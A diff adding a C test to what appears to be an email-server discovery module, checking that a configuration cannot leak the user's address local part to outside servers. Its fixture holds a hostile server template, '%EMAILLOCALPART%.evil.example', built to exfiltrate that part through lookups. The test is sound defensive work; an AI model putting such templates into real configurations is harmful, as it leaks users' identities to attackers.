@@ -209,6 +209,20 @@ test_pinned_asks_nobody (void)
   g_assert_cmpstr (ph_provider_get_name (ph_discovery_get_provider (run->discovery)), ==, "Certain");
 }
 
+/* A document can't have the server's name made of what stands before the "@", and so learn it from who looks it up. */
+static void
+test_nobody_is_told_more_than_the_domain (void)
+{
+  g_autoptr(DiscoveryRun) run = discovery_run_new (PLAIN "servers %EMAILLOCALPART%.evil.example:465:SSL smtp.%EMAILLOCALPART%.example.org:465:SSL "
+                                                          "smtp.%EMAILDOMAIN%:465:SSL",
+                                                    NULL);
+
+  discovery_run_all (run, ADA, 0);
+  for (guint i = 0; i < discovery_world_count_asked (run->world); i++)
+    g_assert_null (strstr (g_ptr_array_index (discovery_world_get_asked (run->world), i), "ada"));
+  g_assert_true (discovery_world_was_asked (run->world, "probe smtp.example.org:465"));
+}
+
 static void
 test_offline_asks_nobody (void)
 {
@@ -470,6 +484,7 @@ main (int argc, char *argv[])
   add_cases ("guess", guess_cases, G_N_ELEMENTS (guess_cases));
   g_test_add_func ("/discovery/catalogue", test_catalogue);
   g_test_add_func ("/discovery/pinned-asks-nobody", test_pinned_asks_nobody);
+  g_test_add_func ("/discovery/nobody-is-told-more-than-the-domain", test_nobody_is_told_more_than_the_domain);
   g_test_add_func ("/discovery/offline-asks-nobody", test_offline_asks_nobody);
   g_test_add_func ("/discovery/sends-no-mail", test_sends_no_mail);
   g_test_add_func ("/discovery/mail-exchanger-sends-no-mail", test_mail_exchanger_sends_no_mail);
